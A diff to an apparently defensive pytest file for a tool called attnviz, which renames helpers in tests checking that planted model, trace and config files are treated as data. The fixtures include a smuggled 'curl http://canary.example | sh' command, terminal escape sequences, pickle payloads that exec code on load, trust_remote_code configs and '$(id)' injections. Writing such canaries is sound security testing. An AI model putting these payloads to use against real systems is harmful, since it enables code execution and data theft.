@@ -29,12 +29,14 @@ from attnviz.traces.models.model_names import find_model_path
 from tests import LONGEST
 from tests.conftest import Attnviz, unchecked
 
-Bird = Callable[[Path], list[str]]  # writes files into a folder; and the command that opens them
+Plant = Callable[
+    [Path], list[str]
+]  # writes files, given a transformer's folder; returns the command
 TEXT = "it was too tired"
 HUB = "canary-owner/canary"
-RAW = ("\x1b", "\x07", "\u202e", "\x9b")
+UNSAFE_CHARACTERS = ("\x1b", "\x07", "\u202e", "\x9b")
 ESCAPE = "a\x1b]52;c;Q\x07\u202eb\x9b2J"
-SPELLED = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
+WRITTEN_ESCAPE = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
 SHELL = "attnviz run 'I am'; curl http://canary.example | sh"
 PYTHON = "open({!r}, 'w').close()\nfrom transformers import BertConfig as C, BertModel as M\n"
 OUTPUTS = ("x.html", "x.md", "x.json")
@@ -42,19 +44,19 @@ OUTPUTS = ("x.html", "x.md", "x.json")
 
 @dataclass
 class Watch:
-    """What must not happen, if it happens anywhere in this process."""
+    """An audit hook that records connections, processes and files that are forbidden."""
 
     forbidden: Path | None = None
-    seen: list[str] = field(default_factory=list)
+    events: list[str] = field(default_factory=list)
 
     def __call__(self, event: str, details: tuple[Any, ...]) -> None:
         if self.forbidden is None:
             return
         if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
-            self.seen.append(f"{event} {details[:2]}")
-            raise PermissionError(event)  # neither is anybody asked
+            self.events.append(f"{event} {details[:2]}")
+            raise PermissionError(event)  # so that no test reaches the network
         if event == "open" and isinstance(details[0], str) and "forbidden" in details[0]:
-            self.seen.append(f"{event} {details[0]}")
+            self.events.append(f"{event} {details[0]}")
 
 
 WATCH = Watch()
@@ -63,7 +65,7 @@ sys.addaudithook(WATCH)
 
 @pytest.fixture
 def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
-    """A folder to work in, beside one with files that nothing may touch."""
+    """The watch, in a working folder beside a folder that nothing may touch."""
     (tmp_path / "here").mkdir()
     (tmp_path / "forbidden").mkdir()
     monkeypatch.chdir(tmp_path / "here")
@@ -72,100 +74,102 @@ def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
         monkeypatch.delenv(name, raising=False)
     yield WATCH
     WATCH.forbidden = None
-    WATCH.seen.clear()
+    WATCH.events.clear()
 
 
-def outside() -> Path:
+def forbidden_folder() -> Path:
     return Path("../forbidden").resolve()
 
 
-def planted(name: str, text: str) -> str:
-    """A file that could well be read, if anybody opened it."""
-    (outside() / name).write_text(text, encoding="utf-8")
-    return str(outside() / name)
+def write_outside(name: str, text: str) -> str:
+    """Write a readable file into the forbidden folder; returns its path."""
+    (forbidden_folder() / name).write_text(text, encoding="utf-8")
+    return str(forbidden_folder() / name)
 
 
-def python(place: Path) -> Path:
-    """Code that leaves a file where it runs."""
-    place.write_text(PYTHON.format(str(outside() / "ran")), encoding="utf-8")
+def write_code(place: Path) -> Path:
+    """Write code that leaves a file in the forbidden folder when it runs."""
+    place.write_text(PYTHON.format(str(forbidden_folder() / "ran")), encoding="utf-8")
     return place
 
 
-class Pickled:
+class PickledCode:
     def __reduce__(self) -> tuple[Any, ...]:
-        return exec, (f"open({str(outside() / 'ran')!r}, 'w').close()",)
+        return exec, (f"open({str(forbidden_folder() / 'ran')!r}, 'w').close()",)
 
 
-def written(name: str, text: str) -> str:
+def write_file(name: str, text: str) -> str:
     Path(name).write_text(text, encoding="utf-8")
     return name
 
 
-def changed(path: Path, **changes: Any) -> Path:
+def change_json(path: Path, **changes: Any) -> Path:
     path.write_text(json.dumps(json.loads(path.read_text(encoding="utf-8")) | changes))
     return path
 
 
-def of_code(transformer: Path) -> str:
-    """The folder of a transformer that brings code of its own."""
+def folder_with_code(transformer: Path) -> str:
+    """Copy a transformer into a folder with code of its own; returns its name."""
     shutil.copytree(transformer, "model")
-    python(Path("model", "code.py"))
+    write_code(Path("model", "code.py"))
     auto_map = {"AutoConfig": "code.C", "AutoModel": "code.M", "AutoTokenizer": "code.C"}
-    changed(Path("model", "config.json"), auto_map=auto_map, model_type="canary")
-    changed(Path("model", "tokenizer_config.json"), auto_map=auto_map, tokenizer_class="Canary")
+    change_json(Path("model", "config.json"), auto_map=auto_map, model_type="canary")
+    change_json(Path("model", "tokenizer_config.json"), auto_map=auto_map, tokenizer_class="Canary")
     return "model"
 
 
-def saved_trace(transformer: Path, suffix: str, **settings: Any) -> str:
-    """A trace of a transformer that names another, and trusts it."""
+def save_trace(transformer: Path, suffix: str, **settings: Any) -> str:
+    """Save a trace of a transformer, whose settings then name another."""
     trace(TEXT, model=str(transformer)).save(f"made{suffix}")
-    return with_settings(f"made{suffix}", **settings)
+    return change_settings(f"made{suffix}", **settings)
 
 
-def with_settings(file: str, **settings: Any) -> str:
+def change_settings(file: str, **settings: Any) -> str:
     if file.endswith(".npz"):
         arrays = dict(np.load(file))
-        told = json.loads(str(arrays["trace"]))
-        told["origin"]["settings"].update(settings)
-        np.savez(file, **arrays | {"trace": np.array(json.dumps(told))})
+        stored_trace = json.loads(str(arrays["trace"]))
+        stored_trace["origin"]["settings"].update(settings)
+        np.savez(file, **arrays | {"trace": np.array(json.dumps(stored_trace))})
         return file
     document = json.loads(Path(file).read_text(encoding="utf-8"))
     document["trace"]["origin"]["settings"].update(settings)
-    return written(file, json.dumps(document))
+    return write_file(file, json.dumps(document))
 
 
-def drawn_trace(**settings: Any) -> str:
+def save_random_trace(**settings: Any) -> str:
     trace("I am").save("drawn.json")
-    return with_settings("drawn.json", **settings)
+    return change_settings("drawn.json", **settings)
 
 
-def trusted_code(transformer: Path, suffix: str) -> str:
-    return saved_trace(transformer, suffix, model=of_code(transformer), trust_remote_code=True)
+def save_trusting_trace(transformer: Path, suffix: str) -> str:
+    return save_trace(
+        transformer, suffix, model=folder_with_code(transformer), trust_remote_code=True
+    )
 
 
-def strangers_trace(_: Path) -> list[str]:
-    """Its text, its words, the versions it tells of and its command are a stranger's."""
+def save_hostile_trace(_: Path) -> list[str]:
+    """A saved trace whose text, words, versions and command come from an attacker."""
     trace("I am").save("drawn.json")
     document = json.loads(Path("drawn.json").read_text(encoding="utf-8"))
     document["attnviz"] |= {"command": SHELL, "version": ESCAPE, "device": ESCAPE}
     document["attnviz"]["versions"]["torch"] = ESCAPE
     document["trace"]["tokens"] |= {"text": ESCAPE, "words": [ESCAPE, f"<script>{ESCAPE}"]}
-    return ["run", "--trace", written("t.json", json.dumps(document))]
+    return ["run", "--trace", write_file("t.json", json.dumps(document))]
 
 
-def pickled_array(name: str) -> str:
-    arrays = np.array([Pickled()], dtype=object)
+def save_pickled_array(name: str) -> str:
+    arrays = np.array([PickledCode()], dtype=object)
     np.savez(name, scores=arrays, trace=arrays) if name.endswith("z") else np.save(name, arrays)
     return name
 
 
-def pickled_as(name: str) -> str:
-    Path(name).write_bytes(pickle.dumps(Pickled()))
+def save_pickle(name: str) -> str:
+    Path(name).write_bytes(pickle.dumps(PickledCode()))
     return name
 
 
-def named_tensors(name: str) -> str:
-    metadata = {"file": str(outside() / "x.npy"), "axes.scores": ESCAPE, "model": HUB}
+def save_named_tensors(name: str) -> str:
+    metadata = {"file": str(forbidden_folder() / "x.npy"), "axes.scores": ESCAPE, "model": HUB}
     save_file({"scores": torch.eye(2)}, name, metadata=metadata)
     return name
 
@@ -181,22 +185,22 @@ out.x.x = 1\n"""
 LEARN = ["--steps=1", "--batch=2", "-q"]
 
 
-def lesson(*settings: str) -> Bird:
-    text = LESSON.format(SPELLED, "\n".join(["[settings]", *settings]))
-    return lambda _: ["example", "show", written("lesson.toml", text)]
+def lesson_canary(*settings: str) -> Plant:
+    text = LESSON.format(WRITTEN_ESCAPE, "\n".join(["[settings]", *settings]))
+    return lambda _: ["example", "show", write_file("lesson.toml", text)]
 
 
-def saved_model(file: str = "", **changes: Any) -> str:
+def copy_saved_model(file: str = "", **changes: Any) -> str:
     shutil.copytree(find_model_path("reverse"), "saved")
     if file:
-        changed(Path("saved", file), **changes)
+        change_json(Path("saved", file), **changes)
     return "saved"
 
 
-def training(**asked: str) -> Bird:
-    """A folder that was learned in, and says that it goes on with something else."""
+def training_canary(**arguments: str) -> Plant:
+    """The folder of a training, which names another task to go on with."""
 
-    def made(_: Path) -> list[str]:
+    def write_canary(_: Path) -> list[str]:
         from attnviz.learning import progress
         from attnviz.learning.choices import Choices
         from attnviz.learning.lookup import task_of
@@ -206,138 +210,149 @@ def training(**asked: str) -> Bird:
             learning = Training(task_of("reverse"), choices=Choices(steps=1, batch=2))
             list(learning)
         progress.write_progress(Path("saved"), learning.progress())
-        changed(Path("saved", "training.json"), asked=asked)
-        python(Path("saved", "task.py"))
-        planted("lines.txt", "a b\nb c\n")
-        planted("g.toml", GRAMMAR.format("x", ""))
+        change_json(Path("saved", "training.json"), asked=arguments)
+        write_code(Path("saved", "task.py"))
+        write_outside("lines.txt", "a b\nb c\n")
+        write_outside("g.toml", GRAMMAR.format("x", ""))
         return ["learn", "--from", "saved", "--steps=2"]
 
-    return made
+    return write_canary
 
 
-def transformer_with(*names: str) -> Callable[[Callable[[Path], object]], Bird]:
-    """The folder of a transformer without some of its files, and with something in it."""
+def transformer_canary(*names: str) -> Callable[[Callable[[Path], object]], Plant]:
+    """The folder of a transformer without the named files, into which `plant` puts others."""
 
-    def of(plant: Callable[[Path], object]) -> Bird:
-        def made(transformer: Path) -> list[str]:
+    def add_plant(plant: Callable[[Path], object]) -> Plant:
+        def write_canary(transformer: Path) -> list[str]:
             shutil.copytree(transformer, "model")
             plant(Path("model"))
             for name in names:
                 Path("model", name).unlink()
             return ["inspect", TEXT, "--model", "model"]
 
-        return made
+        return write_canary
 
-    return of
+    return add_plant
 
 
-def index_outside(model: Path, path: str = "../../forbidden/x.safetensors") -> None:
-    """Weights that could well be read, if anybody opened them."""
+def write_outside_index(model: Path, path: str = "../../forbidden/x.safetensors") -> None:
+    """Write readable weights outside, and an index in the folder that names them."""
     weights = load_file(model / "model.safetensors")
-    save_file(weights, outside() / "x.safetensors", metadata={"format": "pt"})
+    save_file(weights, forbidden_folder() / "x.safetensors", metadata={"format": "pt"})
     index = {"metadata": {}, "weight_map": dict.fromkeys(weights, path)}
-    written(str(model / "model.safetensors.index.json"), json.dumps(index))
+    write_file(str(model / "model.safetensors.index.json"), json.dumps(index))
 
 
-def names_a_hub(model: Path) -> None:
-    changed(model / "config.json", _name_or_path=HUB, transformers_version=ESCAPE)
-    changed(model / "tokenizer_config.json", name_or_path=HUB)
+def name_hub(model: Path) -> None:
+    change_json(model / "config.json", _name_or_path=HUB, transformers_version=ESCAPE)
+    change_json(model / "tokenizer_config.json", name_or_path=HUB)
     adapter = {"base_model_name_or_path": HUB, "peft_type": "LORA"}
-    written(str(model / "adapter_config.json"), json.dumps(adapter))
+    write_file(str(model / "adapter_config.json"), json.dumps(adapter))
 
 
-def escapes_in_tokens(model: Path) -> None:
+def put_escapes_into_tokens(model: Path) -> None:
     path = model / "tokenizer.json"
     path.write_text(path.read_text(encoding="utf-8").replace('"[CLS]"', json.dumps(ESCAPE)))
 
 
-def embeddings_index(transformer: Path) -> list[str]:
+def embeddings_canary(transformer: Path) -> list[str]:
     shutil.copytree(transformer, "model")
-    index_outside(Path("model"))
+    write_outside_index(Path("model"))
     Path("model", "model.safetensors").unlink()
     return ["run", TEXT, "-t", "words", "--embeddings", "model"]
 
 
-# What is opened, and whether it may be shown: 0; or has to be refused: 2.
-CANARIES: dict[str, tuple[int, Bird]] = {
+# The exit status (0: shown, 2: refused), and what writes the files and returns the command.
+CANARIES: dict[str, tuple[int, Plant]] = {
     "trace .json: code, by effect": (2, lambda model: [
-        "inspect", "--by=effect", "--trace", trusted_code(model, ".json")]),
+        "inspect", "--by=effect", "--trace", save_trusting_trace(model, ".json")]),
     "trace .npz: code, by gradient": (2, lambda model: [
-        "inspect", "--weigh=gradient", "--trace", trusted_code(model, ".npz")]),
+        "inspect", "--weigh=gradient", "--trace", save_trusting_trace(model, ".npz")]),
     "trace: code, beside a sentence": (2, lambda model: [
-        "compare", "it was too large", "--trace", trusted_code(model, ".json")]),
+        "compare", "it was too large", "--trace", save_trusting_trace(model, ".json")]),
     "trace: code, in two precisions": (2, lambda model: [
-        "compare", "--by=dtype", "--trace", trusted_code(model, ".json")]),
+        "compare", "--by=dtype", "--trace", save_trusting_trace(model, ".json")]),
     "trace: code, of nothing trained": (2, lambda model: [
-        "compare", "--trace", drawn_trace(model=of_code(model), trust_remote_code=True)]),
+        "compare", "--trace",
+        save_random_trace(model=folder_with_code(model), trust_remote_code=True)]),
     "trace: hub": (2, lambda model: [
-        "inspect", "--by=effect", "--trace", saved_trace(model, ".json", model=HUB)]),
-    "trace: hub's vectors": (2, lambda _: ["compare", "--trace", drawn_trace(embeddings=HUB)]),
-    "trace: tokenizer": (2, lambda _: ["compare", "--trace", drawn_trace(tokenizer="o200k_base")]),
+        "inspect", "--by=effect", "--trace", save_trace(model, ".json", model=HUB)]),
+    "trace: hub's vectors": (2, lambda _: [
+        "compare", "--trace", save_random_trace(embeddings=HUB)]),
+    "trace: tokenizer": (2, lambda _: [
+        "compare", "--trace", save_random_trace(tokenizer="o200k_base")]),
     "trace: vectors outside": (2, lambda _: [
-        "compare", "--trace", drawn_trace(embeddings=planted("x.txt", "I 1 2\nam 2 1\n"))]),
-    "trace: escapes and a shell": (0, strangers_trace),
-    "trace .npz: pickle": (2, lambda _: ["run", "--trace", pickled_array("t.npz")]),
-    "given .toml: escapes": (0, lambda _: ["run", "--given", written(
-        "g.toml", f'tokens = ["{SPELLED}", "b"]\nembeddings = [[1, 2], [3, 4]]')]),
-    "given .toml: names": (2, lambda _: ["run", "--given", written(
+        "compare", "--trace",
+        save_random_trace(embeddings=write_outside("x.txt", "I 1 2\nam 2 1\n"))]),
+    "trace: escapes and a shell": (0, save_hostile_trace),
+    "trace .npz: pickle": (2, lambda _: ["run", "--trace", save_pickled_array("t.npz")]),
+    "given .toml: escapes": (0, lambda _: ["run", "--given", write_file(
+        "g.toml", f'tokens = ["{WRITTEN_ESCAPE}", "b"]\nembeddings = [[1, 2], [3, 4]]')]),
+    "given .toml: names": (2, lambda _: ["run", "--given", write_file(
         "g.toml", f'scores = [[1]]\nmodel = "{HUB}"')]),
-    "given .json: escapes": (0, lambda _: ["run", "--given", written(
-        "g.json", f'{{"tokens": ["{SPELLED}", "b"], "embeddings": [[1, 2], [3, 4]]}}')]),
-    "given .npz: pickle": (2, lambda _: ["run", "--given", pickled_array("g.npz")]),
-    "given .npz: pickle of another name": (2, lambda _: ["run", "--given", pickled_as("g.npz")]),
-    "given .safetensors: pickle": (2, lambda _: ["run", "--given", pickled_as("g.safetensors")]),
-    "given .safetensors: names": (2, lambda _: ["run", "--given", named_tensors("g.safetensors")]),
-    "embeddings .npy: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_array("e.npy")]),
-    "embeddings .npz: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_array("e.npz")]),
-    "embeddings .bin: pickle": (2, lambda _: ["run", "I", "--embeddings", pickled_as("e.bin")]),
+    "given .json: escapes": (0, lambda _: ["run", "--given", write_file(
+        "g.json", f'{{"tokens": ["{WRITTEN_ESCAPE}", "b"], "embeddings": [[1, 2], [3, 4]]}}')]),
+    "given .npz: pickle": (2, lambda _: ["run", "--given", save_pickled_array("g.npz")]),
+    "given .npz: pickle of another name": (2, lambda _: ["run", "--given", save_pickle("g.npz")]),
+    "given .safetensors: pickle": (2, lambda _: ["run", "--given", save_pickle("g.safetensors")]),
+    "given .safetensors: names": (2, lambda _: [
+        "run", "--given", save_named_tensors("g.safetensors")]),
+    "embeddings .npy: pickle": (2, lambda _: [
+        "run", "I", "--embeddings", save_pickled_array("e.npy")]),
+    "embeddings .npz: pickle": (2, lambda _: [
+        "run", "I", "--embeddings", save_pickled_array("e.npz")]),
+    "embeddings .bin: pickle": (2, lambda _: ["run", "I", "--embeddings", save_pickle("e.bin")]),
     "embeddings .txt: escapes": (0, lambda _: [
         *("run", ESCAPE, "--tokenizer=spaces", "--embeddings"),
-        written("e.txt", f"{ESCAPE} 1 2 3\n")]),
-    "embeddings of a folder: outside": (2, embeddings_index),
-    "lesson: escapes": (0, lesson("heads = 1")),
+        write_file("e.txt", f"{ESCAPE} 1 2 3\n")]),
+    "embeddings of a folder: outside": (2, embeddings_canary),
+    "lesson: escapes": (0, lesson_canary("heads = 1")),
     "lesson: code": (2, lambda model: [
-        *lesson(f'model = "{of_code(model)}"', TRUST)(model)]),
-    "lesson: hub": (2, lesson(f'model = "{HUB}"')),
+        *lesson_canary(f'model = "{folder_with_code(model)}"', TRUST)(model)]),
+    "lesson: hub": (2, lesson_canary(f'model = "{HUB}"')),
     "lesson: vectors outside": (2, lambda model: [
-        *lesson(f'embeddings = "{planted("x.txt", "I 1 2")}"', 'tokenizer = "words"')(model)]),
-    "lesson: hub's vectors": (2, lesson(f'embeddings = "{HUB}"')),
-    "lesson: tokenizer": (2, lesson('tokenizer = "o200k_base"')),
-    "lesson: code, expected": (2, lambda model: ["example", "check", written(
+        *lesson_canary(
+            f'embeddings = "{write_outside("x.txt", "I 1 2")}"', 'tokenizer = "words"')(model)]),
+    "lesson: hub's vectors": (2, lesson_canary(f'embeddings = "{HUB}"')),
+    "lesson: tokenizer": (2, lesson_canary('tokenizer = "o200k_base"')),
+    "lesson: code, expected": (2, lambda model: ["example", "check", write_file(
         "lesson.toml", LESSON.format("x", f"[[expect]]\nstep = 'softmax'\nshape = [1]\n"
-                                     f"with = {{ model = '{of_code(model)}', {TRUST} }}"))]),
+                                     f"with = {{ model = '{folder_with_code(model)}', "
+                                     f"{TRUST} }}"))]),
     "grammar: escapes": (0, lambda _: [
-        "learn", written("g.toml", GRAMMAR.format(SPELLED, "")), *LEARN]),
-    "grammar: code": (2, lambda _: ["learn", written(
-        "g.toml", GRAMMAR.format("x", f'task = "{python(Path("task.py"))}"')), *LEARN]),
-    "lines: escapes": (0, lambda _: ["learn", "--file", written(
+        "learn", write_file("g.toml", GRAMMAR.format(WRITTEN_ESCAPE, "")), *LEARN]),
+    "grammar: code": (2, lambda _: ["learn", write_file(
+        "g.toml", GRAMMAR.format("x", f'task = "{write_code(Path("task.py"))}"')), *LEARN]),
+    "lines: escapes": (0, lambda _: ["learn", "--file", write_file(
         "lines.txt", "\n".join(f"{ESCAPE} {each}" for each in "abcdefghijkl")), *LEARN]),
     "by hand: escapes": (0, lambda _: [
-        "run", "a a", "--model", written("m.toml", BY_HAND.format(SPELLED, ""))]),
-    "by hand: names": (2, lambda _: ["run", "a", "--model", written(
+        "run", "a a", "--model", write_file("m.toml", BY_HAND.format(WRITTEN_ESCAPE, ""))]),
+    "by hand: names": (2, lambda _: ["run", "a", "--model", write_file(
         "m.toml", BY_HAND.format("x", f'[settings]\nmodel = "{HUB}"'))]),
-    "saved model: escapes": (0, lambda _: ["run", "a b", "--model", saved_model(
+    "saved model: escapes": (0, lambda _: ["run", "a b", "--model", copy_saved_model(
         "config.json", name=ESCAPE, about=ESCAPE)]),
-    "saved model: hub": (2, lambda _: ["run", "a b", "--model", saved_model(
+    "saved model: hub": (2, lambda _: ["run", "a b", "--model", copy_saved_model(
         "config.json", settings={"model": HUB, "trust_remote_code": True})]),
-    "saved model: tokenizer": (2, lambda _: ["run", "a b", "--model", saved_model(
+    "saved model: tokenizer": (2, lambda _: ["run", "a b", "--model", copy_saved_model(
         "vocabulary.json", tokenizer="o200k_base")]),
-    "saved model: task": (2, lambda _: ["heads", "--model", saved_model(
-        "config.json", facts={"task": str(python(Path("task.py")))})]),
+    "saved model: task": (2, lambda _: ["heads", "--model", copy_saved_model(
+        "config.json", facts={"task": str(write_code(Path("task.py")))})]),
     "saved model: pickle": (2, lambda _: ["run", "a b", "--model", str(
-        Path(pickled_as(f"{saved_model()}/model.safetensors")).parent)]),
-    "goes on: code": (2, training(task="saved/task.py")),
-    "goes on: grammar outside": (2, training(task="../forbidden/g.toml")),
-    "goes on: lines outside": (2, training(file="../forbidden/lines.txt", tokenizer="words")),
-    "transformer: code": (2, lambda model: ["inspect", TEXT, "--model", of_code(model)]),
-    "transformer: pickle": (2, transformer_with("model.safetensors")(
-        lambda model: pickled_as(str(model / "pytorch_model.bin")))),
-    "transformer: index outside": (2, transformer_with("model.safetensors")(index_outside)),
-    "transformer: index elsewhere": (2, transformer_with("model.safetensors")(
-        lambda model: index_outside(model, str(outside() / "x.safetensors")))),
-    "transformer: hub": (0, transformer_with()(names_a_hub)),
-    "transformer: escapes": (0, transformer_with()(escapes_in_tokens)),
-    "text: escapes": (0, lambda _: ["run", "--file", written("story.txt", f"{ESCAPE} $(id) `id`")]),
+        Path(save_pickle(f"{copy_saved_model()}/model.safetensors")).parent)]),
+    "goes on: code": (2, training_canary(task="saved/task.py")),
+    "goes on: grammar outside": (2, training_canary(task="../forbidden/g.toml")),
+    "goes on: lines outside": (2, training_canary(
+        file="../forbidden/lines.txt", tokenizer="words")),
+    "transformer: code": (2, lambda model: ["inspect", TEXT, "--model", folder_with_code(model)]),
+    "transformer: pickle": (2, transformer_canary("model.safetensors")(
+        lambda model: save_pickle(str(model / "pytorch_model.bin")))),
+    "transformer: index outside": (2, transformer_canary("model.safetensors")(write_outside_index)),
+    "transformer: index elsewhere": (2, transformer_canary("model.safetensors")(
+        lambda model: write_outside_index(model, str(forbidden_folder() / "x.safetensors")))),
+    "transformer: hub": (0, transformer_canary()(name_hub)),
+    "transformer: escapes": (0, transformer_canary()(put_escapes_into_tokens)),
+    "text: escapes": (0, lambda _: [
+        "run", "--file", write_file("story.txt", f"{ESCAPE} $(id) `id`")]),
 }  # fmt: skip
 
 
@@ -354,49 +369,51 @@ def test_a_file_is_data(
     files = {*Path().rglob("*")}
     outputs = [] if command[1] == "check" else [each for file in OUTPUTS for each in ("-o", file)]
     with monkeypatch.context() as patch:
-        patch.setattr(socket.socket, "connect", lambda *_: watch.seen.append("connect"))
-        watch.forbidden = outside()
-        printed = attnviz(*command)
-        result = attnviz(*command, *outputs) if status == 0 else printed
+        patch.setattr(socket.socket, "connect", lambda *_: watch.events.append("connect"))
+        watch.forbidden = forbidden_folder()
+        first_result = attnviz(*command)
+        result = attnviz(*command, *outputs) if status == 0 else first_result
         watch.forbidden = None
 
-    assert watch.seen == []
-    assert (printed.status, result.status) == (status, status), printed.err + result.err
-    assert not (outside() / "ran").exists()
-    new = [each for each in {*Path().rglob("*")} - files if each.is_file()]
-    assert {each.name for each in new} == ({*OUTPUTS} if status == 0 else set())
-    texts = [printed.out, printed.err, result.out, result.err]
-    texts += [each.read_bytes().decode("utf-8") for each in new]
-    assert not [each for text in texts for each in RAW if each in text]
+    assert watch.events == []
+    assert (first_result.status, result.status) == (status, status), first_result.err + result.err
+    assert not (forbidden_folder() / "ran").exists()
+    new_files = [each for each in {*Path().rglob("*")} - files if each.is_file()]
+    assert {each.name for each in new_files} == ({*OUTPUTS} if status == 0 else set())
+    texts = [first_result.out, first_result.err, result.out, result.err]
+    texts += [each.read_bytes().decode("utf-8") for each in new_files]
+    assert not [each for text in texts for each in UNSAFE_CHARACTERS if each in text]
     assert not [text for text in texts if "canary.example" in text]
     if status == 2:
-        assert [line[:7] for line in printed.err.splitlines()] == ["error: ", " hint: "]
+        assert [line[:7] for line in first_result.err.splitlines()] == ["error: ", " hint: "]
 
 
 def connect() -> None:
-    with socket.socket() as opened:
-        opened.connect(("127.0.0.1", 9))
+    with socket.socket() as connection:
+        connection.connect(("127.0.0.1", 9))
 
 
 @pytest.mark.parametrize(
-    ("does", "seen"),
+    ("action", "expected_event"),
     [
         (lambda: socket.create_connection(("127.0.0.1", 9), 1), "socket.getaddrinfo"),
         (connect, "socket.connect"),
         (lambda: subprocess.run(["true"], check=True, timeout=LONGEST), "subprocess.Popen"),
-        (lambda: (outside() / "x").write_text(""), "open"),
-        (lambda: pickle.loads(pickle.dumps(Pickled())), "open"),
+        (lambda: (forbidden_folder() / "x").write_text(""), "open"),
+        (lambda: pickle.loads(pickle.dumps(PickledCode())), "open"),
     ],
 )
-def test_a_canary_is_noticed(does: Callable[[], object], seen: str, watch: Watch) -> None:
-    watch.forbidden = outside()
+def test_a_canary_is_noticed(
+    action: Callable[[], object], expected_event: str, watch: Watch
+) -> None:
+    watch.forbidden = forbidden_folder()
     with suppress(PermissionError):
-        does()
-    assert watch.seen[0].startswith(seen)
+        action()
+    assert watch.events[0].startswith(expected_event)
 
 
 def test_a_task_in_python_that_somebody_types_is_run(watch: Watch, attnviz: Attnviz) -> None:
-    """So the canaries above are alive."""
-    attnviz("learn", str(python(Path("task.py"))))
+    """Shows that the code of the canaries above would be noticed."""
+    attnviz("learn", str(write_code(Path("task.py"))))
 
-    assert (outside() / "ran").exists()
+    assert (forbidden_folder() / "ran").exists()
